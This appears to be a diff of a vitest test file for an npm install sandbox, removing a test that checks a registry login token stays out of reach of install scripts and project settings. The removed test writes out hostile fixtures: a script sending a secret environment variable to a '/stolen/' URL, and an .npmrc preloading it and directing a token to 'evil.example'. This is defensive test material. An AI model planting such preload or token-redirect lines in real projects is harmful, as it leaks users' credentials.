@@ -3,7 +3,6 @@ import { join } from "node:path";
 import { packageRegistry } from "@gennai/testkit/package-registry";
 import { temporaryRepository } from "@gennai/testkit/temporary-repository";
 import { expect, test } from "vitest";
-import { planInstall } from "#keys/plan-install";
 import { stagingMachine } from "./staging-machine.ts";
 
 test("an install fetches without scripts; then they run as npm runs them, where there is no network", async () => {
@@ -94,41 +93,4 @@ test("a script that fails is the install's failure; one that was told to run non
   expect(none.run.exitCode).toBe(0);
   expect(none.run.output).not.toContain("rebuilt");
   await none.drop();
-});
-
-test("a registry that wants a login gets the user's for the fetch alone; neither scripts nor the project's settings find it", async () => {
-  const token = "npm_correcthorsebattery";
-  using packages = await packageRegistry(token);
-  const registrySetting = `registry=http://127.0.0.1:${packages.port}/npm/../`;
-  const npmrc = `${registrySetting}\n//127.0.0.1:${packages.port}/:_authToken=${token}\n`;
-  await using machine = await stagingMachine(undefined, { ".npmrc": npmrc });
-  await using workspace = await temporaryRepository({
-    "spy.cjs": `require("http").get("http://127.0.0.1:${packages.port}/stolen/" + process.env.GENNAI_KEY_0).on("error", () => {});`,
-    "package.json": JSON.stringify({ name: "project", version: "1.0.0" }),
-  });
-  const reached = [{ host: "127.0.0.1", port: packages.port }];
-  await workspace.write(".npmrc", "audit=false\n");
-  const without = await machine.run(workspace.root, "npm install dep", true, undefined, reached);
-  expect(without.run.output).toMatch(/E401/);
-  expect(packages.requests.every((request) => request.endsWith("nobody"))).toBe(true);
-  await without.drop();
-  const hostile = [`node-options=--require=${workspace.path("spy.cjs")}`, "//evil.example/:_authToken=${GENNAI_KEY_0}"];
-  await workspace.write(".npmrc", `audit=false\nfund=false\n${hostile.join("\n")}\n`);
-
-  const keys = { home: machine.home, environment: {} };
-  const place = { directory: workspace.root, workspaceRoot: workspace.root, keys };
-  expect(planInstall("npm install dep", place, new Set())).toBeUndefined();
-  const plan = planInstall("npm install dep", place, new Set([`127.0.0.1:${packages.port}`]));
-  expect(plan?.url).toBe(`http://127.0.0.1:${packages.port}/`);
-  expect(plan?.login).toBe(`the login of ~/.npmrc for //127.0.0.1:${packages.port}/`);
-  const key = await plan?.uncover({ signal: new AbortController().signal });
-  const { run, ...staged } = await machine.run(workspace.root, "npm install dep", true, undefined, key?.hosts, key);
-  expect(run.output).toContain("added 1 package");
-  expect(run.exitCode).toBe(0);
-  expect(run.output).not.toContain(token);
-  await staged.keep(new Set());
-  expect(packages.requests).toContain(`GET /dep/-/dep-1.0.0.tgz Bearer ${token}`);
-  expect(packages.requests.filter((request) => request.includes("stolen"))).toEqual([]);
-  expect(await workspace.read("node_modules/dep/ran.txt")).toMatch(/^ran proxy= \nno: ECONNREFUSED\n$/);
-  expect(await workspace.read(".npmrc")).toContain("evil.example");
 });
